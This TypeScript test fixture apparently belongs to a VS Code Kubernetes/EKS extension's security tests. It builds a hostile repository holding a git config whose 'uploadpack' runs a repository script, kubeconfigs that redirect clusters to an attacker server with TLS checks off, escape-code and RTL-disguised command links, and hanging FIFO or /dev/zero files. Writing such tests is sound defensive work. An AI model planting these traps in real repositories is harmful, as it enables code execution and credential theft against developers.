import { execFileSync } from 'node:child_process';
import { chmod, cp, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Attacker } from './attacker';

/** What makes of a name a link that runs a command, in color and with its end turned around. */
export const LINK = '[Fix](command:parrot.run)';
const NAME = `\u001b[31m${LINK}\u202egnp`;

/** The role of an account that the user has nothing to do with. */
const STRANGER = 'arn:aws:iam::666666666666:role/eks-provision';

/** A profile that the user has, whose credentials a program of theirs gives. */
export const PROFILE = 'production';

const cluster = (name: string) => ({
  ...{ name, region: 'eu-central-1', accountId: '666666666666', partition: 'aws', roleArn: STRANGER },
  ...{ environmentScope: name, enabled: true, managed: true, namespacePerEnvironment: true },
});
const ARN = 'arn:aws:eks:eu-central-1:666666666666:cluster/stranger';

/** No configuration of this machine's user. */
const GIT_ENV = { PATH: process.env['PATH'], HOME: '/nonexistent' };

function git(folder: string, ...args: readonly string[]): void {
  const identity = ['-c', 'user.name=a', '-c', 'user.email=a@example.com'];
  execFileSync('git', [...identity, ...args], { cwd: folder, env: GIT_ENV, stdio: 'ignore' });
}

/** One repository that was made to harm those who open it: a workspace with a folder for each trick. */
export class HostileRepository {
  private constructor(
    readonly root: string,
    private readonly attacker: Attacker,
  ) {}

  static async make(root: string, attacker: Attacker): Promise<HostileRepository> {
    const repository = new HostileRepository(root, attacker);
    await repository.write();
    return repository;
  }

  get workspace(): string {
    return this.at('trap.code-workspace');
  }

  /** What the program that git is to run creates. */
  get gitCanary(): string {
    return this.at('../git-canary');
  }

  at(...path: readonly string[]): string {
    return join(this.root, ...path);
  }

  private async write(): Promise<void> {
    await this.writeWorkspace();
    await this.writeDecoy();
    await this.writeStolen();
    await this.writeList();
    await this.writeLinks();
    git(this.root, 'init', '--quiet');
    git(this.root, 'add', '.');
    git(this.root, 'commit', '-qm', 'Add development settings');
  }

  private async writeWorkspace(): Promise<void> {
    const attached = { name: 'trap', apiUrl: this.attacker.url, caFingerprint: 'ab'.repeat(32) };
    const named = [attached, cluster('broken')].map((entry) => ({ ...entry, name: NAME }));
    const settings = {
      'eks.clusters': [{ ...cluster('stranger'), profile: PROFILE }, attached, ...named],
      'eks.aws.profile': PROFILE,
      'eks.aws.region': NAME,
    };
    // On a server, VS Code gives every terminal the variables of the first folder while no editor is open.
    const folders = ['stolen', 'decoy', 'list', 'endless', 'silent'].map((path) => ({
      ...{ path, name: `${path} ${LINK}` },
    }));
    await this.file('trap.code-workspace', JSON.stringify({ folders, settings }));
  }

  /** Ordinary files that git takes for a bare repository: what it lacks, a program of the repository is to fetch. */
  private async writeDecoy(): Promise<void> {
    const origin = this.at('../origin');
    for (const path of ['.kube/config', '.kube/cache', 'config']) await this.file(`../origin/${path}`, 'a\n');
    git(origin, 'init', '--quiet');
    git(origin, 'add', '.');
    git(origin, 'commit', '-qm', 'a');
    git(origin, 'sparse-checkout', 'set', '--cone', '--sparse-index', 'src');
    const decoy = this.at('decoy/x');
    for (const part of ['HEAD', 'index', 'refs', 'info'])
      await cp(join(origin, '.git', part), join(decoy, part), { recursive: true });
    for (const folder of ['objects', 'refs']) await this.file(`decoy/x/${folder}/keep`, '');
    await this.file('decoy/evil', `#!/bin/sh\ntouch '${this.gitCanary}'\n`);
    await chmod(this.at('decoy/evil'), 0o755);
    await this.file(
      'decoy/x/config',
      `[core]\n\trepositoryformatversion = 1\n\tbare = false\n\tworktree = .\n[extensions]\n\tpartialClone = o\n[remote "o"]\n\turl = ${origin}\n\tpromisor = true\n\tuploadpack = ${this.at('decoy/evil')}\n[index]\n\tsparse = true\n`,
    );
    await this.file('decoy/x/config.yaml', kubeconfig(ARN, this.attacker.url));
    await this.settings('decoy', { 'eks.kubeconfig.path': '${workspaceFolder}/x/config.yaml' });
  }

  /** What git takes no part of, for it looks like a repository of its own; and a name that is the user's own. */
  private async writeStolen(): Promise<void> {
    await this.file('stolen/.kube/HEAD', 'ref: refs/heads/main\n');
    for (const folder of ['objects', 'refs']) await this.file(`stolen/.kube/${folder}/x`, '');
    await this.file('stolen/.kube/config', this.stealing('https://127.0.0.1:1'));
    await this.settings('stolen', { 'eks.clusters': [cluster('stolen')] });
  }

  /**
   * A kubeconfig in which the user's own cluster has the attacker's address.
   * @param other the address of a cluster beside it
   */
  stealing(other: string): string {
    return `${kubeconfig(ARN, other)}- {name: minikube, cluster: {server: "${this.attacker.url}", insecure-skip-tls-verify: true}}\n`;
  }

  /** One file by its name, two in `KUBECONFIG`: the second, which steals, is easy to overlook. */
  private async writeList(): Promise<void> {
    await this.file('list/.kube/config:.kube/evil', kubeconfig(ARN, 'https://127.0.0.1:1'));
    await this.file('list/.kube/evil', this.stealing('https://127.0.0.1:1'));
    await this.settings('list', { 'eks.kubeconfig.path': '.kube/config:.kube/evil' });
  }

  /** Files that never end, and that never answer. Git has no FIFOs: an archive has. */
  private async writeLinks(): Promise<void> {
    for (const folder of ['endless', 'silent']) await mkdir(this.at(folder, '.kube'), { recursive: true });
    await symlink('/dev/zero', this.at('endless/.kube/config'));
    execFileSync('mkfifo', [this.at('silent/.kube/config')]);
  }

  private settings(folder: string, settings: object): Promise<void> {
    return this.file(`${folder}/.vscode/settings.json`, JSON.stringify(settings));
  }

  private async file(path: string, text: string): Promise<void> {
    await mkdir(this.at(path, '..'), { recursive: true });
    await writeFile(this.at(path), text);
  }

  /** As if none of it had happened. */
  async reset(): Promise<void> {
    await rm(this.gitCanary, { force: true });
    this.attacker.heard = [];
  }
}

/** Its last line may be followed by more clusters. */
function kubeconfig(name: string, server: string): string {
  return `apiVersion: v1\nkind: Config\nclusters:\n- {name: "${name}", cluster: {server: "${server}"}}\n`;
}
